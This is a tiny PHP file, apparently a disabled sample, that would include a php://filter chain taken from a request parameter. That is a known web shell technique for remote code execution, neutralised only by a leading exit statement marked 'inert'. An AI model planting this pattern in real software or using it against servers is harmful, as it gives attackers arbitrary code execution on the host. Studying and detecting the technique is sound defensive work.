<?php exit; /* inert */ 
$f = 'php://filter/' . $_GET['chain'] . '/resource=php://temp';
@include $f;
